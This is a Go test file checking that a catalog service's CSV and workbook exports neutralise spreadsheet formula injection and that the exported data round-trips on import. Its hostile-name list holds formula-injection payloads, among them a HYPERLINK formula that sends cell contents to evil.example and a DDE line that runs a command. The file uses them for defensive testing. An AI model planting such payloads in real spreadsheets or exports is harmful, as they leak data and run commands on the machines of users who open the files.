package catalogimport_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"regexp"
	"strings"
	"testing"

	"github.com/scopekit/scopekit/catalogimport"
	"github.com/scopekit/scopekit/engine"
	"github.com/scopekit/scopekit/scoping/views"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// hostileNames start with what a spreadsheet runs (=, +, -, @, tab, CR),
// hold quotes, separators and line breaks, or start with quotes already.
var hostileNames = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"Click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
	"\tTabbed", "\rCarriage", "\r\nCRLF first", "'=already quoted", "''+twice quoted", "'plain quote",
	`say "hi", then go`, "semi;colon", "two\nlines", "crlf\r\nlines", " leading space", "trailing space ",
	"Ünïcødé 計画 ✓", "-", "=", "-5", "-1.5",
}

// seedHostile creates in acme a catalog of every kind whose names, SKUs
// and texts are the hostile names.
func seedHostile(t *testing.T, e *env) {
	ctx := context.Background()
	a := e.actor("acme")
	create := func(typ string, attrs map[string]any, rels map[string]string) string {
		in := &engine.Input{Attrs: map[string]json.RawMessage{}, Rels: map[string]engine.RelInput{}}
		for k, v := range attrs {
			b, err := json.Marshal(v)
			require.NoError(t, err)
			in.Attrs[k] = b
		}
		for k, id := range rels {
			typ := map[string]string{"phase": views.TypePhases, "resource": views.TypeResources, "service": views.TypeServices,
				"rate-table": views.TypeRateTables}[k]
			in.Rels[k] = engine.RelInput{Refs: []engine.Ref{{Type: typ, ID: id}}}
		}
		res, err := e.svc.Create(ctx, a, typ, in, engine.Options{})
		require.NoError(t, err, "%s %q", typ, attrs["name"])
		return res.Records[0].ID
	}
	table := create(views.TypeRateTables, map[string]any{"name": "-Standard"}, nil)
	for i, n := range hostileNames {
		phase := create(views.TypePhases, map[string]any{"name": n, "position": i, "sow-language": n}, nil)
		res := create(views.TypeResources, map[string]any{"name": n, "external-name": n, "description": n,
			"hourly-rate": "200.5", "hourly-cost": "0"}, nil)
		svc := create(views.TypeServices, map[string]any{"name": n, "sku": n, "description": n, "hours": "1.25", "position": i},
			map[string]string{"phase": phase, "resource": res})
		create(views.TypeSubservices, map[string]any{"name": n, "hours": "2", "position": i},
			map[string]string{"service": svc, "resource": res})
		create(views.TypeResourceRates, map[string]any{"hourly-rate": "10", "hourly-cost": "5"},
			map[string]string{"rate-table": table, "resource": res})
	}
}

// plainDecimal is a cell a spreadsheet reads as a number, not a formula.
var plainDecimal = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)

// Ensure the CSV export neutralises every cell a spreadsheet would run
// (a single quote before =, +, -, @, tab or CR, as OWASP recommends; plain
// numbers stay numbers), and that the export of a catalog with hostile
// names imports into a new account as the same catalog, as a zip of CSV
// files and as a workbook; importing it back changes nothing.
func TestHostileNamesRoundTrip(t *testing.T) {
	e := newEnv(t)
	seedHostile(t, e)
	before := e.dump("acme")
	require.Contains(t, before, "name=\tTabbed")

	out, err := e.svc.ExportCatalog(context.Background(), e.actor("acme"), catalogimport.ZipCSV)
	require.NoError(t, err)
	zr, err := zip.NewReader(bytes.NewReader(out), int64(len(out)))
	require.NoError(t, err)
	quoted := 0
	for _, f := range zr.File {
		rc, err := f.Open()
		require.NoError(t, err)
		b, err := io.ReadAll(rc)
		require.NoError(t, err)
		recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
		require.NoError(t, err, f.Name)
		for _, rec := range recs {
			for _, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					assert.Regexp(t, plainDecimal, cell, "%s: a cell a spreadsheet would run", f.Name)
				}
				if strings.HasPrefix(cell, "'=HYPERLINK") {
					quoted++
				}
			}
		}
	}
	assert.Positive(t, quoted, "the formula-like names are written with a quote in front")

	for _, format := range []catalogimport.Format{catalogimport.ZipCSV, catalogimport.XLSX} {
		e2 := newEnv(t)
		seedHostile(t, e2)
		data, err := e2.svc.ExportCatalog(context.Background(), e2.actor("acme"), format)
		require.NoError(t, err)
		rep, err := e2.importFile("globex", catalogimport.File{Format: format, Data: data}, false)
		require.NoError(t, err, problems(rep))
		assert.Equal(t, before, e2.dump("globex"), "format %d", format)
		rep, err = e2.importFile("globex", catalogimport.File{Format: format, Data: data}, false)
		require.NoError(t, err, problems(rep))
		for key, c := range rep.Sheets {
			assert.Equal(t, c.Rows, c.Unchanged, "format %d, %s imported again", format, key)
		}
	}
}

// Ensure an import undoes only the export's neutralisation: a quote before
// a character a spreadsheet runs is dropped (one of several quotes), other
// quotes and leading spaces are kept, a bare = is still a formula, and
// negative numbers in numeric columns, quoted or not, are read as numbers
// (then refused as negative, not as text).
func TestCSVNeutralisedCells(t *testing.T) {
	e := newEnv(t)
	csvText := "Name,Position,SOW language\n" +
		"'=SUM(A1),3,'-minus\n" +
		"''@two,4,'plain\n" +
		"\" \tspaced\",,\"'\tquoted tab\"\n"
	rep, err := e.importFile("acme", catalogimport.File{Format: catalogimport.CSV, Sheet: "phases", Data: []byte(csvText)}, false)
	require.NoError(t, err, problems(rep))
	dump := e.dump("acme")
	for _, want := range []string{
		"phases: active=true name==SUM(A1) position=3 sow-language=-minus",
		"phases: active=true name='@two position=4 sow-language='plain",
		"phases: active=true name= \tspaced sow-language=\tquoted tab",
	} {
		assert.Contains(t, dump, want)
	}
	rep, err = e.importFile("acme", catalogimport.File{Format: catalogimport.CSV, Sheet: "phases", Data: []byte("Name\n=1+1\n")}, true)
	require.NoError(t, err)
	assert.Contains(t, problems(rep), "phases row 2, Name (A2): a formula")
	rep, err = e.importFile("acme", catalogimport.File{Format: catalogimport.CSV, Sheet: "resources",
		Data: []byte("Name,Hourly rate,Hourly cost\nA,-3,'-4.5\n")}, true)
	require.NoError(t, err)
	assert.Equal(t, "resources row 2, Hourly rate (B2): hourly-rate must be zero or positive\n"+
		"resources row 2, Hourly cost (C2): hourly-cost must be zero or positive\n", problems(rep))
}
